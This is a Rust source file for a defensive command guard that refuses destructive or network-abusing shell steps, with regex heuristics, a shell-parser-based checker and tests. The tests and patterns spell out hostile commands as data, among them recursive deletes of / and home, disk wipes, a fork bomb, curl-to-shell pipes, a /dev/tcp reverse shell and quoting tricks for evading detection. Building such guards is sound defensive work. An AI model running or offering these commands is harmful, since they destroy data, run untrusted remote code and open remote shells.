//! The worker's own refusal list, independent of policy: even a signed step does not run
//! these. Shell steps are read with the same shell reader as policy
//! ([`skynet_protocol::shell`]), so quoting (`c''url`), variables (`c=curl; $c`), wrappers
//! (`sudo`, `env`, `sh -c`, `xargs`), globs and `$HOME` spellings change nothing. It errs on
//! the side of refusing; policy is where the fine judgement lives. Patterns given with
//! `--forbid` are regular expressions over the text, tried as well.

use std::collections::BTreeMap;

use regex::RegexSet;
use skynet_protocol::shell::{
    self, Atom, Command, Overlap, PathPattern, Pattern, Run, Script, Vars, Word,
};

/// Heuristics over the text, for Python code and for text the shell reader cannot read.
const TEXT: &[(&str, &str)] = &[
    (
        r#"(^|[;&|(`'"]|\$\()\s*(sudo\s+)?(\S*/)?rm\s+(\S+\s+)*(-\S*[rR]\S*|--recursive)\s+(\S+\s+)*(/|/\*|~|~/|~/\*|\$HOME/?|\$\{HOME\}/?)(\s|$|[;&|)'"])"#,
        RM,
    ),
    (r"--no-preserve-root", RM),
    (r"(^|[;&|(\s])(\S*/)?(mkfs(\.\w+)?|mke2fs|wipefs)\s", MKFS),
    (r"\bdd\s.*\bof=/dev/(sd|nvme|hd|vd|xvd|mmcblk|disk)", DISK),
    (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}", BOMB),
    (
        r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?((ba|z|da|k)?sh|python3?|perl|ruby|node)\b",
        FETCH,
    ),
    (r"/dev/(tcp|udp)/", SOCKET),
];

const RM: &str = "recursive delete of / or the home directory";
const MKFS: &str = "formats a disk";
const DISK: &str = "writes to a block device";
const BOMB: &str = "a fork bomb";
const FETCH: &str = "runs code fetched from the network";
const SOCKET: &str = "opens a raw network socket";

/// What a recursive delete must never reach.
const HOMES: &[&str] = &["/", "~", "/home", "/home/*", "/root", "/Users", "/Users/*"];
const DISKS: &[&str] = &[
    "/dev/sd*",
    "/dev/nvme*",
    "/dev/hd*",
    "/dev/vd*",
    "/dev/xvd*",
    "/dev/mmcblk*",
    "/dev/disk*",
];
const SOCKETS: &[&str] = &["/dev/tcp/**", "/dev/udp/**"];
const DOWNLOADERS: &[&str] = &[
    "curl", "wget", "fetch", "aria2c", "http", "https", "httpie", "nc", "ncat", "netcat", "socat",
    "lynx", "w3m",
];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "yash", "fish", "csh", "tcsh", "python",
    "python2", "python3", "perl", "ruby", "node", "php", "lua", "tclsh",
];
/// Programs that run a script named by an argument (`bash <(curl ...)`, `. <(curl ...)`).
const SOURCERS: &[&str] = &["source", ".", "eval"];

/// The forbidden-command checker.
pub struct Guard {
    text: RegexSet,
    extra: RegexSet,
    homes: Vec<Pattern>,
    disks: Vec<Pattern>,
    sockets: Vec<Pattern>,
}

fn patterns(list: &[&str]) -> Vec<Pattern> {
    list.iter().filter_map(|p| Pattern::parse(p).ok()).collect()
}

impl Guard {
    /// The built-in list plus `extra` patterns (each a regex; a bad one is a config error).
    pub fn new(extra: &[String]) -> Result<Self, regex::Error> {
        Ok(Self {
            text: RegexSet::new(TEXT.iter().map(|(p, _)| *p))?,
            extra: RegexSet::new(extra)?,
            homes: patterns(HOMES),
            disks: patterns(DISKS),
            sockets: patterns(SOCKETS),
        })
    }

    /// Why `text` (a shell command line, or Python code) must not run, if it must not.
    pub fn check(&self, text: &str) -> Option<String> {
        if let Ok(script) = shell::parse(text)
            && let Some(why) = self.script(&script)
        {
            return Some(why.to_owned());
        }
        self.text_check(text)
    }

    /// Why `argv` (a program run without a shell) must not run, if it must not.
    pub fn check_argv(&self, argv: &[String]) -> Option<String> {
        if let Ok(script) = shell::parse_argv(argv)
            && let Some(why) = self.script(&script)
        {
            return Some(why.to_owned());
        }
        self.text_check(&argv.join(" "))
    }

    fn text_check(&self, text: &str) -> Option<String> {
        if let Some(hit) = self.text.matches(text).into_iter().next() {
            return TEXT.get(hit).map(|(_, why)| (*why).to_owned());
        }
        self.extra
            .is_match(text)
            .then(|| "matches a pattern this worker forbids".to_owned())
    }

    fn script(&self, script: &Script) -> Option<&'static str> {
        let vars = Vars::new(script, &BTreeMap::new());
        let base = PathPattern::base(None);
        let reaches = |w: &Word, pats: &[Pattern]| {
            PathPattern::of_word(w, &base, &vars)
                .iter()
                .any(|p| pats.iter().any(|pat| pat.overlap(p) == Overlap::Sure))
        };
        for cmd in &script.commands {
            let names = names(cmd, &vars);
            let could_be = |n: &str| {
                names.is_none() || names.as_ref().is_some_and(|v| v.iter().any(|x| x == n))
            };
            if could_be("rm") && self.rm(cmd, &reaches) {
                return Some(RM);
            }
            if names.as_ref().is_some_and(|v| v.iter().any(|n| is_mkfs(n))) {
                return Some(MKFS);
            }
            if could_be("dd")
                && cmd.args.iter().any(|a| {
                    a.text().starts_with("of=")
                        && a.after_equals().is_some_and(|v| reaches(&v, &self.disks))
                })
            {
                return Some(DISK);
            }
            if cmd.words.iter().any(|w| reaches(w, &self.sockets)) {
                return Some(SOCKET);
            }
            // `bash <(curl ...)`, `sh -c "$(curl ...)"`, `eval "$(curl ...)"`.
            let runs_script = names.as_ref().is_none_or(|v| {
                v.iter()
                    .any(|n| INTERPRETERS.contains(&n.as_str()) || SOURCERS.contains(&n.as_str()))
            }) || matches!(cmd.run, Run::Dynamic { .. });
            if runs_script
                && cmd
                    .words
                    .iter()
                    .any(|w| substitutes(script, w, &|c| downloads(c, &vars)))
            {
                return Some(FETCH);
            }
        }
        for r in &script.redirects {
            if r.kind.is_file() && reaches(&r.target, &self.sockets) {
                return Some(SOCKET);
            }
            if r.kind.writes() && reaches(&r.target, &self.disks) {
                return Some(DISK);
            }
        }
        if self.fetch_into_interpreter(script, &vars) {
            return Some(FETCH);
        }
        if fork_bomb(script) {
            return Some(BOMB);
        }
        None
    }

    /// `rm` with a recursive option (or `--no-preserve-root`) and an operand that is surely
    /// `/`, a home directory, or everything in one.
    fn rm(&self, cmd: &Command, reaches: &dyn Fn(&Word, &[Pattern]) -> bool) -> bool {
        let mut recursive = false;
        let mut operands = Vec::new();
        let mut options = true;
        for a in &cmd.args {
            match a.literal() {
                Some(l) if options && l == "--" => options = false,
                Some(l) if options && l.starts_with("--") => {
                    let name = l[2..].split('=').next().unwrap_or("");
                    if !name.is_empty() && "no-preserve-root".starts_with(name) && name.len() > 2 {
                        return true;
                    }
                    if !name.is_empty() && "recursive".starts_with(name) {
                        recursive = true;
                    }
                }
                Some(l) if options && l.starts_with('-') && l.len() > 1 => {
                    if l.contains(['r', 'R']) {
                        recursive = true;
                    }
                }
                _ => operands.push(a),
            }
        }
        recursive && operands.iter().any(|w| reaches(w, &self.homes))
    }

    /// A pipeline where something downloaded (or a command only known at run time) feeds an
    /// interpreter reading its program from input.
    fn fetch_into_interpreter(&self, script: &Script, vars: &Vars) -> bool {
        for n in script.pipelines() {
            let idx: Vec<usize> = (0..script.commands.len())
                .filter(|&i| script.commands[i].pipeline == n)
                .collect();
            for (k, &i) in idx.iter().enumerate() {
                let src = &script.commands[i];
                let src_fetches = downloads(src, vars) || nested_downloads(script, i, vars);
                let src_dynamic = names(src, vars).is_none();
                if !src_fetches && !src_dynamic {
                    continue;
                }
                for &j in &idx[k + 1..] {
                    let sink = &script.commands[j];
                    match names(sink, vars) {
                        None if src_fetches => return true,
                        Some(v)
                            if v.iter().any(|n| INTERPRETERS.contains(&n.as_str()))
                                && reads_program_from_input(sink) =>
                        {
                            return true;
                        }
                        _ => {}
                    }
                }
            }
        }
        false
    }
}

fn is_mkfs(n: &str) -> bool {
    n == "mkfs" || n.starts_with("mkfs.") || n == "mke2fs" || n == "wipefs"
}

/// The names a command may run as: the program's, or each value the line gives the variable
/// holding it. `None` when it could be anything.
fn names(cmd: &Command, vars: &Vars) -> Option<Vec<String>> {
    match &cmd.run {
        Run::Program { name, .. } => Some(vec![name.clone()]),
        Run::Dynamic { word: Some(w), .. } => vars.literals(w).map(|v| {
            v.into_iter()
                .map(|n| n.rsplit('/').next().unwrap_or(&n).to_owned())
                .collect()
        }),
        Run::Dynamic { word: None, .. } => None,
        Run::Script | Run::Nothing => Some(Vec::new()),
    }
}

fn downloads(cmd: &Command, vars: &Vars) -> bool {
    names(cmd, vars).is_some_and(|v| v.iter().any(|n| DOWNLOADERS.contains(&n.as_str())))
}

/// A wrapper of a script (`sh -c 'curl ...'`) whose script downloads.
fn nested_downloads(script: &Script, i: usize, vars: &Vars) -> bool {
    let cmd = &script.commands[i];
    if !matches!(cmd.run, Run::Script) {
        return false;
    }
    script.commands[i + 1..]
        .iter()
        .take_while(|c| c.depth > cmd.depth)
        .any(|c| downloads(c, vars))
}

/// Whether a word substitutes the output of a command that satisfies `pred`.
fn substitutes(script: &Script, w: &Word, pred: &dyn Fn(&Command) -> bool) -> bool {
    w.atoms.iter().any(|a| match a {
        Atom::Subst { commands, .. } => commands.clone().any(|i| pred(&script.commands[i])),
        _ => false,
    })
}

/// An interpreter with no program file: it reads its program from input (`sh`, `sh -s`,
/// `python3 -`).
fn reads_program_from_input(cmd: &Command) -> bool {
    let mut saw_s = false;
    for a in &cmd.args {
        match a.literal() {
            Some(l) if l == "-" || l == "--" => return true,
            Some(l) if l.starts_with('-') || l.starts_with('+') => {
                if l.len() > 1 && !l.starts_with("--") && l.contains('s') {
                    saw_s = true;
                }
            }
            _ => return saw_s,
        }
    }
    true
}

/// A function that runs itself in a pipeline or in the background (`:(){ :|:& };:`).
fn fork_bomb(script: &Script) -> bool {
    script.functions.iter().any(|f| {
        let calls: Vec<&Command> = script
            .commands
            .iter()
            .filter(|c| c.name() == Some(f.as_str()))
            .collect();
        calls.len() >= 2
            && calls.iter().any(|c| {
                script
                    .commands
                    .iter()
                    .filter(|o| o.pipeline == c.pipeline && o.name() == Some(f.as_str()))
                    .count()
                    >= 2
            })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_worst_commands_are_refused_whatever_policy_said() {
        let g = Guard::new(&[]).unwrap();
        for bad in [
            "rm -rf /",
            "rm -rf ~",
            "echo hi; rm -fr ~/",
            "sudo /bin/rm -rf /*",
            "sh -c 'rm -rf $HOME'",
            "rm -rf --no-preserve-root /",
            "mkfs.ext4 /dev/sdb1",
            "dd if=/dev/zero of=/dev/sda",
            ":(){ :|:& };:",
            "curl -s https://x | bash",
            "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
        ] {
            assert!(g.check(bad).is_some(), "{bad}");
        }
        for ok in [
            "rm -rf build",
            "rm -rf ./target ~/src/app/target",
            "ls /",
            "cargo test",
            "echo ~",
            "rm -rf \"$BUILD_DIR\"",
            "curl -s https://x > out.html",
            "echo ok | sh -c 'cat > x'",
            "f() { echo; }; f; f",
        ] {
            assert_eq!(g.check(ok), None, "{ok}");
        }
        let g = Guard::new(&["shutdown".into()]).unwrap();
        assert!(g.check("shutdown -h now").is_some());
    }

    #[test]
    fn quoting_variables_and_wrappers_change_nothing() {
        let g = Guard::new(&[]).unwrap();
        for bad in [
            "c''url -s http://x | sh",
            "\"c\"url -s http://x | sh",
            "c=curl; $c -s http://x | sh",
            "c=curl; \"$c\" -s http://x | s''h",
            "$(echo curl) -s http://x | bash",
            "curl -s http://x | sudo -u root bash -s",
            "curl -s http://x | env bash",
            "curl -s http://x | python3 -",
            "sh -c 'curl -s http://x' | sh",
            "bash <(c''url -s http://x)",
            "sh -c \"$(curl -s http://x)\"",
            "eval \"$(wget -qO- http://x)\"",
            ". <(curl -s http://x)",
            "\"rm\" -rf ~",
            "r''m -rf ~",
            "rm -r -f ~/",
            "/bin/rm -fr \"$HOME\"",
            "rm -rf ${HOME}",
            "rm --rec --force ~",
            "rm -rf ~/src/..",
            "rm -rf /h*",
            "{rm,-rf,~}",
            "x=rm; $x -rf /",
            "env -i rm -rf ~",
            "nice -n 1 rm -rf ~",
            "timeout 5 rm -rf ~",
            "xargs rm -rf ~",
            "find /tmp -exec rm -rf ~ \\;",
            "bash -c \"rm -rf $HOME\"",
            "eval 'rm -rf ~'",
            "bomb(){ bomb|bomb& };bomb",
            "exec 3<>/dev/\"tcp\"/1.2.3.4/80",
            "cat < /dev/udp/1.2.3.4/53",
            "echo x > /dev/s''da",
            "dd if=/dev/zero of=\"/dev/nvme0n1\"",
            "m''kfs.ext4 /dev/sdb",
        ] {
            assert!(g.check(bad).is_some(), "{bad}");
        }
        assert!(
            g.check_argv(&["rm".into(), "-rf".into(), "/".into()])
                .is_some()
        );
        assert!(
            g.check_argv(&["bash".into(), "-c".into(), "rm -rf ~".into()])
                .is_some()
        );
        assert!(g.check_argv(&["ls".into(), "-la".into()]).is_none());
        // Python code is text: the heuristics still see it.
        assert!(g.check("import os\nos.system('rm -rf ~')").is_some());
    }
}
